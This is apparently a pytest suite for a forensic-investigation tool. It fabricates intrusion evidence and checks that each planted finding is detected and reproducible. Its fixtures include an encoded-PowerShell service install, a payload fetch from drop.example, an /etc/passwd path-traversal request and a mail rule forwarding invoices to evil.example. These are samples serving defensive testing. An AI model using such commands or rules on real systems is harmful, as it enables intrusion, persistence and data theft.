"""A seized office: event log, capture, browser history, Suricata's alerts, a web log behind a proxy, an audit log, a letter.

What was planted is found, with the records that show it; nothing else is; and a second run gives the same digests.
"""

import json
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from browser_factory import chromium
from capture_factory import ACK, Talk, ethernet, pcap, query, udp
from capture_factory import Packet as Frame
from comity.analysis.finding import Finding
from comity.casework.findings_file import decode
from comity.casework.folder import Folder
from comity.ledger import current_files
from command_line import CONSENT, comity, done
from event_log_factory import Logged, event_log

AT = datetime(2026, 9, 1, 8, tzinfo=UTC)
SECOND = timedelta(seconds=1)
INTRUDER, PROXY, CLIENT, DROP = "45.83.64.9", "104.16.5.9", "91.198.174.192", "185.199.108.153"
ACCOUNT = "S-1-5-21-1-2-3-1107"


def windows() -> bytes:
    def logon(code: int, seconds: int) -> Logged:
        data = {"TargetUserName": "backup", "TargetDomainName": "CORP", "LogonType": "10", "IpAddress": INTRUDER, "IpPort": "51000"}
        return Logged(code=code, at=AT + seconds * SECOND, data=data)

    subject = {"SubjectUserName": "backup", "SubjectDomainName": "CORP", "SubjectUserSid": "S-1-5-21-1-2-3-1001"}
    service = {"ServiceName": "update", "ImagePath": "%COMSPEC% /c powershell -enc SQBFAFgA", "AccountName": "LocalSystem"}
    ordinary = {"ServiceName": "Spooler", "ImagePath": "C:\\Windows\\System32\\spoolsv.exe", "AccountName": "LocalSystem"}
    return event_log(
        [
            Logged(code=7045, provider="Service Control Manager", channel="System", at=AT - 900 * SECOND, data=ordinary),
            *(logon(4625, 10 * each) for each in range(15)),
            logon(4624, 200),
            Logged(code=4720, at=AT + 260 * SECOND, data={"TargetUserName": "helper", "TargetSid": ACCOUNT, **subject}),
            Logged(
                code=4732,
                at=AT + 270 * SECOND,
                data={"MemberName": "-", "MemberSid": ACCOUNT, "TargetUserName": "Administratoren", "TargetSid": "S-1-5-32-544", **subject},
            ),
            Logged(code=7045, provider="Service Control Manager", channel="System", at=AT + 300 * SECOND, data=service),
            Logged(
                code=1102, provider="Microsoft-Windows-Eventlog", user_data="LogFileCleared", at=AT + 400 * SECOND,
                data={"SubjectUserName": "backup"},
            ),
        ]
    )  # fmt: skip


def capture() -> bytes:
    start = (AT + 320 * SECOND).timestamp()
    asked = b"GET /stage.bin HTTP/1.1\r\nHost: drop.example\r\nUser-Agent: x\r\n\r\n"
    talk = Talk(client="10.0.0.5", port=50_000, server=DROP, other=80, time=start)
    talk.opened().sent(ACK, asked).got(ACK, b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello").closed()
    looked_up = Frame(start - 1, ethernet(udp("10.0.0.5", 5_353, "10.0.0.1", 53, query("drop.example"))))
    return pcap([looked_up, *talk.packets])


def alerts() -> bytes:
    record = {
        "timestamp": (AT + 321 * SECOND).strftime("%Y-%m-%dT%H:%M:%S.000000+0000"), "flow_id": 7, "event_type": "alert", "src_ip": "10.0.0.5",
        "src_port": 50_000, "dest_ip": DROP, "dest_port": 80, "proto": "TCP",
        "alert": {"action": "allowed", "signature_id": 9, "signature": "EXAMPLE Stage downloaded", "category": "Trojan", "severity": 1},
    }  # fmt: skip
    return (json.dumps(record) + "\n").encode() * 3


def audit() -> bytes:
    """Sign-ins to a mailbox from its office, one from elsewhere, and a rule that sends invoices away."""

    def record(days: float, operation: str, workload: str, address: str, **more: object) -> dict[str, object]:
        at = AT - timedelta(days=days)
        return {
            "CreationTime": f"{at:%Y-%m-%dT%H:%M:%S}", "Id": f"{operation}-{days}", "Operation": operation, "OrganizationId": "o-1",
            "RecordType": 15, "ResultStatus": "Success", "UserKey": "k", "UserType": 0, "Version": 1, "Workload": workload,
            "ClientIP": address, "ObjectId": "x", "UserId": "Office@firm.example", **more,
        }  # fmt: skip

    rule = [{"Name": "SubjectContainsWords", "Value": "invoice"}, {"Name": "ForwardTo", "Value": "collector@evil.example"}]
    records = [record(days, "UserLoggedIn", "AzureActiveDirectory", "91.198.174.7") for days in (9, 7, 5, 3)]
    records.append(record(0.01, "UserLoggedIn", "AzureActiveDirectory", INTRUDER))
    records.append(record(0, "New-InboxRule", "Exchange", f"{INTRUDER}:52000", Parameters=rule))
    return "".join(json.dumps(each) + "\n" for each in records).encode()


def web_log() -> bytes:
    """Exploitation that the server answered, through a proxy that passes on for many."""
    lines = []
    for number in range(40):
        at = f"{AT + number * SECOND:%d/%b/%Y:%H:%M:%S} +0000"
        lines.append(f'{PROXY} - - [{at}] "GET /page{number % 7} HTTP/1.1" 200 {1_000 + number % 7} "-" "x" "10.9.8.{number}"')
    at = f"{AT + 50 * SECOND:%d/%b/%Y:%H:%M:%S} +0000"
    lines += [f'{PROXY} - - [{at}] "GET /?f=../../../../etc/passwd HTTP/1.1" 200 7777 "-" "x" "{CLIENT}"'] * 2
    return ("\n".join(lines) + "\n").encode()


MAIL = (
    f"Received: from mail.evil.example (mail.evil.example [{DROP}]) by mx.firm.example with ESMTPS id 1; Tue, 01 Sep 2026 07:30:00 +0000\n"
    "From: Bank <post@evil.example>\nTo: office@firm.example\nSubject: new file\nDate: Tue, 01 Sep 2026 07:29:58 +0000\n"
    "Message-ID: <1@evil.example>\n\nThe file is at http://drop.example/stage.bin as agreed.\n"
).encode()


@dataclass(frozen=True, slots=True, kw_only=True)
class Office:
    """The case, and what `--json` printed."""

    place: Path
    summary: dict[str, Any]

    @property
    def case(self) -> Path:
        return self.place / "case"

    @property
    def findings(self) -> tuple[Finding, ...]:
        return decode((self.case / "derived" / "findings.json").read_bytes())

    def table(self, name: str) -> pl.DataFrame:
        return pl.read_parquet(self.case / "derived" / f"{name}.parquet")

    def of_kind(self, kind: str) -> list[Finding]:
        return [finding for finding in self.findings if finding.kind == kind]


@pytest.fixture(scope="module")
def office(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Office]:
    place = tmp_path_factory.mktemp("office")
    material = place / "material"
    material.mkdir()
    files = {
        "Security.evtx": windows(), "lan.pcap": capture(), "History": chromium(visits=9), "eve.json": alerts(), "access.log": web_log(), "audit.json": audit(),
        "letter.eml": MAIL,
    }  # fmt: skip
    for name, data in files.items():
        (material / name).write_bytes(data)
    finished = comity("investigate", material, "--case", place / "case", *CONSENT, "--json")
    assert finished.returncode == 0, finished.stderr
    return Office(place=place, summary=json.loads(finished.stdout))


def test_what_was_planted_is_found_and_nothing_else(office: Office) -> None:
    strengths = {
        finding.kind: str(finding.strength) for finding in office.findings if not finding.kind.startswith(("address.", "indicator."))
    }
    assert strengths == {
        "intrusion.password_guessed": "strong",
        "intrusion.after_login": "strong",
        "intrusion.mailbox_rule": "strong",
        "intrusion.exploitation_answered": "strong",
        "intrusion.administrator_added": "moderate",
        "intrusion.service_installed": "moderate",
        "intrusion.log_cleared": "moderate",
        "alert.reported": "moderate",
    }


def test_each_finding_rests_on_records_that_name_it(office: Office) -> None:
    folder = Folder.open(office.case)
    kinds = {finding.kind: {folder.exhibit(trace.exhibit).name for trace in finding.traces} for finding in office.findings}
    assert kinds["intrusion.log_cleared"] == {"Security.evtx"}
    assert kinds["alert.reported"] == {"eve.json"}
    assert kinds["intrusion.mailbox_rule"] == {"audit.json"}
    assert kinds["intrusion.exploitation_answered"] == {"access.log"}


def test_a_proxy_leads_to_a_question(office: Office) -> None:
    (finding,) = office.of_kind("intrusion.exploitation_answered")
    roles = {each.role: each.selector.value for each in finding.involved}
    assert roles == {"proxy that passed it on (exploitation source)": PROXY, "client a proxy claimed": CLIENT}
    plan = json.loads((office.case / "derived" / "requests.json").read_bytes())
    text = json.dumps(plan)
    assert "Who runs this proxy" in text
    for request in (office.case / "requests").glob("*.json"):
        assert PROXY not in request.read_text("utf-8")


def test_a_rule_of_a_mailbox_names_who_signed_in_before(office: Office) -> None:
    (finding,) = office.of_kind("intrusion.mailbox_rule")
    assert [(each.role, each.selector.value, each.port) for each in finding.involved] == [
        ("login source", INTRUDER, None),
        ("source of the mailbox rule", INTRUDER, 52_000),
        ("forwarding target", "collector@evil.example", None),
    ]


def test_one_timeline_over_all_of_it(office: Office) -> None:
    timeline = office.table("timeline")
    assert timeline["@timestamp"].is_sorted()
    assert set(timeline["kind"]) >= {"login", "system", "web", "network", "alert", "mail"}
    said = timeline["what"].to_list()
    assert any(text.startswith(("tcp to " + DROP, "http to " + DROP)) for text in said)
    assert "dns query: drop.example" in said
    assert any(text.startswith("page visited") for text in said)
    assert sum(text.startswith("alert: EXAMPLE") for text in said) == 3


def test_what_connects_mail_and_network(office: Office) -> None:
    connected = {each.selector.value for finding in office.of_kind("indicator.shared") for each in finding.involved}
    assert DROP in connected
    indicators = office.table("indicators").filter(pl.col("value") == "drop.example")
    assert set(indicators["where"].item()) >= {"name looked up", "host of a link", "host asked"}
    addresses = office.table("addresses").filter(pl.col("address") == DROP)
    assert set(addresses["sources"].item().split()) == {"asked", "mail", "network"}


def test_a_second_run_gives_the_same_digests(office: Office) -> None:
    again = office.place / "again"
    finished = comity(
        "investigate", office.place / "material", "--case", again, *CONSENT, "--jobs", "1", environment={"TZ": "Asia/Kathmandu"}
    )
    assert finished.returncode == 0, finished.stderr

    def derived(case: Path) -> dict[str, str]:
        return {name: digest for name, digest in current_files(Folder.open(case).entries()).items() if name.startswith("derived/")}

    assert derived(office.case) == derived(again)
    assert json.loads(done("reproduce", again, "--json"))["agrees"] is True


def test_the_report_and_the_indicators_bundle_name_it(office: Office) -> None:
    report = (office.case / "report.html").read_text("utf-8")
    for text in ("Administrator made", "Event log emptied", "Another tool", "need not be the one who acted"):
        assert text in report
    bundle = json.loads((office.case / "stix.json").read_bytes())
    assert any(each["type"] == "note" and "EXAMPLE Stage" in each["content"] for each in bundle["objects"])
